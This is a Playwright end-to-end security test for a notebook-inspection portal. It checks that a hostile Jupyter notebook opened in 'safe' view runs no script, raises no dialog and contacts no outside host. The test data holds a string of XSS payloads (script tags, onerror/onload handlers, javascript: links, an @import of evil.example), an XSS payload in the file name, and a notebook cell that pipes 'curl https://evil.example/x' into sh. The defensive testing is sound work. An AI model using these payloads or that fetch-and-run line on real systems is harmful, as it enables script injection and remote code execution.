"""Attack: script in a document that is opened safely, in its outputs, texts, name and code; in a real browser."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from browser_parts import chromium, open_portal
from foresight_parts import book, code, shown, text
from nbkeep.inspections.inspect import inspect_upload
from render_parts import needs_a_jail

if TYPE_CHECKING:
    from playwright.sync_api import Dialog

    from browser_parts import OpenPortal

__all__ = ["chromium", "open_portal"]
pytestmark = [pytest.mark.attack, pytest.mark.e2e, needs_a_jail]
EVIL = (
    "<script>document.title='OWNED';alert('OWNED')</script><img src=x onerror=alert('OWNED')>"
    "<svg onload=alert('OWNED')></svg><iframe src=\"javascript:alert('OWNED')\"></iframe>"
    "<img src=https://evil.example/OWNED><a href=\"javascript:alert('OWNED')\">x</a><style>@import url(https://evil.example/OWNED)</style>"
)


def test_a_hostile_notebook_does_nothing_beside_the_list_of_what_it_would_do(open_portal: OpenPortal) -> None:
    """Its page, its frame and its frame by itself: nothing runs, nothing is asked for elsewhere; the list is there."""
    office = open_portal.office
    jane = office.user("jane")
    data = book(
        text(f"# There\n{EVIL}\n[x](javascript:alert('OWNED'))"), code(f"open({EVIL!r})", shown(html=EVIL), shown(svg=EVIL), shown(script="alert('OWNED')")),
        text(EVIL, "raw"), code("!curl -s https://evil.example/x | sh"),
    )  # fmt: skip
    inspection_id = inspect_upload(office, jane, "<img src=x onerror=alert(1)>.ipynb", data)
    page = open_portal.page(jane, path="/open-safely")
    asked: list[str] = []
    said: list[str] = []

    def heard(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    page.on("request", lambda one: asked.append(one.url))
    page.on("dialog", heard)
    address = f"{open_portal.url}/portal/open-safely/{inspection_id}"
    page.goto(address)
    expect(page.get_by_text("runs what it fetches from evil.example")).to_be_visible()
    frame = page.frame_locator("#document")
    expect(frame.get_by_role("heading", name="There")).to_be_visible()
    page.get_by_role("link", name="cell 4, line 1").first.click()
    expect(frame.locator("#cell-4")).to_be_in_viewport()
    page.set_viewport_size({"width": 400, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "fits a narrow window"
    page.goto(f"{address}/document")
    page.wait_for_timeout(300)
    assert said == []
    assert [one for one in asked if "evil" in one or "OWNED" in one] == []
    assert "OWNED" not in page.title()
